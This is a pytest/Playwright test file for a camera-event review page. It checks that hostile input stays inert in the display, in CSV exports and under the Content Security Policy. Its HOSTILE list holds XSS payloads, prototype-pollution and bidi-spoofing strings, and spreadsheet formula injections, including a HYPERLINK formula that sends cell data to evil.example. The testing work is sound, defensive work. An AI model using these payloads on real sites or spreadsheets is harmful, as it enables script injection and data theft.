"""Names, notes and messages are data: shown and exported as text, never executed."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.review_page import synthetic
from tests.review_page.conftest import Watched, saved

HOSTILE = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<!--<script>",
    '"><img src=x onerror=window.hit=1>',
    "' onmouseover='window.hit=1",
    "javascript:window.hit=1",
    "<svg/onload=window.hit=1>",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "__proto__",
    "constructor",
    "\u202egnp.exe\u202c \u2066x",
    "\u0645\u0631\u062d\u0628\u0627 camera",
    "line\r\nbreak\ttab\x00nul\x1b[31m",
    "\u2028\u2029",
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    " =1+1",
    "half \udcff surrogate",
    "a" * 10_240,
    "W" * 300 + "\U0001f600" * 50,
)


def test_hostile_text_is_inert(watched: Callable[..., Watched], tmp_path: Path) -> None:
    """In cards, event views, dialogs, filters, title and notices; the layout is intact."""
    events = [
        synthetic.event(
            number, name=word, video_id=word, notes=[word], media_error=word, day=f"2026-07-{number + 1:02d}"
        )
        | {"camera": number}
        for number, word in enumerate(HOSTILE)
    ]
    events[0]["neighbours"] = [[1.0, 2.0, HOSTILE[0]]]
    base = synthetic.document(events)
    cameras = [base["cameras"][0] | {"name": word, "purpose": word, "time_zone": word} for word in HOSTILE]
    notices = [{"level": word, "code": word, "text": word} for word in HOSTILE]
    gaps = [base["not_scored"][0] | {"reason": word, "message": word, "video_id": word} for word in HOSTILE]
    document = base | {
        "title": HOSTILE[1],
        "cameras": cameras,
        "banner": base["banner"] | {"notices": notices},
        "not_scored": gaps,
        "privacy": {"pixelated": HOSTILE[0], "text": HOSTILE[3]},
        "source": base["source"] | {"root": HOSTILE[1], "model_name": HOSTILE[3]},
    }
    one = watched()
    page = one.open(synthetic.write(tmp_path, document))
    for number in range(len(HOSTILE)):
        page.evaluate("(id) => Review.openEvent(id)", events[number]["id"])
        expect(page.locator("#detail-title")).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.evaluate("Review.openEvent('event-00000')")
    expect(page.locator(".side .facts")).to_contain_text(HOSTILE[0])
    page.keyboard.press("n")
    page.keyboard.insert_text(HOSTILE[3])
    page.keyboard.press("Escape")
    page.keyboard.press("1")
    page.keyboard.press("Escape")
    for button in ("#help", "#export", "[aria-label='About this night']", "#region"):
        page.click(button)
        expect(page.locator("dialog")).to_be_visible()
        page.keyboard.press("Escape")
    page.click("#cameras")
    page.locator("#cameras + .panel label").nth(9).click()
    assert page.evaluate("Review.state.cameras") == [9]
    page.reload()
    page.wait_for_selector("html[data-kept]", state="attached")
    assert page.evaluate("Review.state.cameras") == [9]
    assert page.evaluate("document.title").startswith("</script>")
    assert page.evaluate("window.hit") is None
    assert page.evaluate("({}).hit === undefined && Object.prototype.toString.call({}) === '[object Object]'")
    assert page.locator("script:not([type])").count() == 1
    assert page.locator("img[src='x'], svg[onload]").count() == 0
    assert "\u202e" not in page.locator("body").inner_text()


@pytest.mark.parametrize("word", HOSTILE)
def test_no_exported_cell_is_a_formula(word: str, exported: dict[str, list[dict[str, str]]]) -> None:
    """Spreadsheets compute nothing; other programs read the text, at most after an apostrophe."""
    index = HOSTILE.index(word)
    text = exported["events"][index]["name"]
    assert not text.lstrip("\t\r\n\x00 ").startswith(("=", "+", "-", "@"))
    plain = word.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    assert text in (plain, "'" + plain)
    assert (text == plain) == (not word.strip().startswith(("=", "+", "-", "@")))
    assert exported["verdicts"][0]["note"] == "'=1+1"


@pytest.fixture(scope="module")
def exported(browser: object, tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict[str, str]]]:
    """Both tables of a page with hostile names."""
    folder = tmp_path_factory.mktemp("hostile")
    one = Watched(browser.new_context(accept_downloads=True))  # type: ignore[attr-defined]
    page = one.open(
        synthetic.write(folder, synthetic.document([synthetic.event(n, name=w) for n, w in enumerate(HOSTILE)]))
    )
    page.evaluate("Review.draft(Review.doc.events[0], '=1+1')")
    page.evaluate("Review.judge(Review.doc.events[0], 'true')")
    page.keyboard.press("x")
    tables = {}
    for what in ("events", "verdicts"):
        path = saved(page, lambda what=what: page.click(f"#{what}-csv"), folder)
        tables[what] = list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline="")))
    one.close()
    return tables


def test_content_security_policy_is_enforced(watched: Callable[..., Watched], tmp_path: Path) -> None:
    """Injected code is blocked by the browser, also for local files, and the tests report it."""
    one = watched()
    one.expected = ["Content Security Policy"]
    page = one.open(synthetic.write(tmp_path, synthetic.document([synthetic.event(0)])))
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.hit = 1";
          document.body.append(script);
          const other = document.createElement("div");
          other.setAttribute("onclick", "window.hit = 2");
          document.body.append(other);
          other.click();
          other.setAttribute("style", "width: 7px");
          fetch("media/x").catch(() => {});
        }"""
    )
    page.wait_for_function("() => window.violations.length >= 4")
    stopped = {violation.split()[0] for violation in page.evaluate("window.violations.splice(0)")}
    assert stopped == {"script-src-elem", "script-src-attr", "style-src-attr", "connect-src"}
    assert page.evaluate("window.hit") is None
